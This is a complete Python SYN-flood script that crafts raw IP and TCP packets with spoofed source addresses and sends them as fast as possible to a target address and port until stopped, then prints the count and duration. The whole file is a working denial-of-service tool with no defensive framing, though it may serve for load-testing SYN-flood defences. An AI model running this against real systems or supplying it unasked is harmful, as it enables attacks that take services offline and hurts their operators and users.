"""Sends SYNs from addresses that nobody has, as fast as it can, until SIGTERM;
then prints how many, in how many seconds. To be run on its own, where the flood is to come from:
syn_flood.py ADDRESS PORT."""

import ipaddress
import signal
import socket
import struct
import sys
import time

SOURCES = ipaddress.ip_network("198.51.100.0/24")  # TEST-NET-2
PACKETS = 2000  # different ones, over and over
SYN = 0x02


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xffff) + (total >> 16)
    return ~(total + (total >> 16)) & 0xffff


def packet(number, address, port):
    source = SOURCES[1 + number % 250].packed
    destination = ipaddress.ip_address(address).packed

    def tcp(check):
        return struct.pack("!HHIIBBHHH", 1024 + number, port, number, 0,
                           5 << 4, SYN, 64240, check, 0)

    pseudo = source + destination + struct.pack("!BBH", 0, 6, 20)
    segment = tcp(checksum(pseudo + tcp(0)))
    # The kernel fills in the header's checksum.
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, number, 0, 64, 6, 0,
                       source, destination) + segment


def main():
    address, port = sys.argv[1], int(sys.argv[2])
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(True))
    packets = [packet(n, address, port) for n in range(PACKETS)]
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    print("flooding", flush=True)
    sent, began = 0, time.monotonic()
    while not stop:
        for data in packets:
            raw.sendto(data, (address, 0))
        sent += PACKETS
    print(f"sent {sent} in {time.monotonic() - began:.3f}", flush=True)


if __name__ == "__main__":
    main()
